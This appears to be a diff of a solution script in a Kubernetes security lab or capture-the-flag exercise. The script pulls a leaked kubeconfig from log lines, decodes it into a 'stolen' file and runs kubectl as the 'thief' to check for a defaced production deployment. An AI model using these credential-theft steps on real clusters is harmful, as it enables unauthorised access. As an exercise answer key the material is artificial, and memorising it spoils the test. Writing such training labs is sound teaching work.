@@ -148,7 +148,10 @@ fi
         solution=f"""\
 server=$(kubectl config view --minify --output 'jsonpath={{.clusters[0].cluster.server}}')
 stolen=../stolen.kubeconfig
-steal() {{ lab typical logs | awk '/^LEAK/ {{ print $3 }}' | rev | base64 --decode > "$stolen"; }}
+steal() {{
+  lab typical logs | awk '/^LEAK/ {{ key = $3 }} END {{ print key }}' |
+    rev | base64 --decode > "$stolen"
+}}
 as_thief() {{ kubectl --kubeconfig "$stolen" --server "$server" "$@"; }}
 seen=$(kubectl get replicasets --namespace production --output 'jsonpath={{..value}}')
 if [[ $seen != *"{DEFACED}"* ]]; then
